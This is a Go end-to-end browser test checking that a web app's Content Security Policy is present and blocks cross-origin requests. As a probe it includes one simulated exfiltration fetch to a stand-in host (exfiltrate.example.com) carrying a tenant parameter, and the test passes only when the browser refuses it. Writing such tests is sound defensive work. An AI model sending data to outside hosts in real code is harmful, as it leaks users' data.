//go:build e2e

package e2e

import (
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/raplanner/raplanner/app/ui"
)

// TestContentSecurityPolicy checks that the page carries the policy that
// keeps it to its own origin, and still works under it (the tab fails on
// any console error, which is where the browser reports a violation).
func TestContentSecurityPolicy(t *testing.T) {
	ctx := newTab(t)
	open(t, ctx, "/")
	got := evalJS[string](t, ctx, `(document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ""`)
	if got != ui.ContentSecurityPolicy {
		t.Fatalf("the page's policy is %q, want %q", got, ui.ContentSecurityPolicy)
	}
	// A script a hostile name might smuggle in cannot reach another origin:
	// the policy refuses the connection before any request is made.
	blocked := evalJS[bool](t, ctx, `(async () => {
		try { await fetch("https://exfiltrate.example.com/?tenant=x"); return false; }
		catch (e) { return true; }
	})()`, chromedp.EvalAwaitPromise)
	if !blocked {
		t.Error("a fetch to another origin was not refused")
	}
	// The browser reports the refusal on the console; those reports, and
	// nothing else, are expected here.
	problems, err := tabOf(t, ctx).take()
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) == 0 {
		t.Error("the browser reported no Content Security Policy violation")
	}
	for _, p := range problems {
		if !strings.Contains(p, "Content Security Policy") {
			t.Errorf("unexpected problem: %s", p)
		}
	}
}
